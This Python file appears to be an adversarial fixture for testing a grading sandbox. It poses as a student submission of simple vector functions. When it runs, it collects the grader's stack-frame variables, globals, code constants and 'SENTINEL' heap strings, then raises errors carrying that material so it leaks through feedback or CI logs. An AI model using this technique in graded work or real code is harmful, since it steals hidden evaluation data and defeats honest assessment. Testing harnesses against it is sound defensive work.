"""Attack: carry hidden material out through the student's own exception messages. Every string
the worker can reach (the probe's frames and globals, its arguments, the heap) is gathered when the
probe runs; from then on every function raises an error whose message is that material, hoping a
message reaches feedback, the CI summary or an export."""

import gc
import sys

import torch

LOOT = []


def _gather():
    frame = sys._getframe(2)
    while frame is not None:
        for d in (frame.f_locals, frame.f_globals):
            for k, v in list(d.items()):
                LOOT.append(f"{k}={v!r}"[:300])
        LOOT.append(repr(frame.f_code.co_consts)[:2000])
        frame = frame.f_back
    LOOT.extend(o[:300] for o in gc.get_objects() if isinstance(o, str) and "SENTINEL" in o)


def _raise_if_loot():
    if LOOT:
        raise ValueError("LOOT: " + " | ".join(LOOT)[:1900])


def dot(a, b):
    _raise_if_loot()
    return (a * b).sum()


def normalize(a, eps=1e-12):
    _raise_if_loot()
    norm = a.norm()
    if norm < eps:
        raise ValueError("zero vector")
    return a / norm


class Accumulator:
    def __init__(self, n):
        _gather()
        self.total = torch.zeros(n)

    def add(self, v):
        self.total += v

    def value(self):
        _raise_if_loot()
        return self.total.clone()
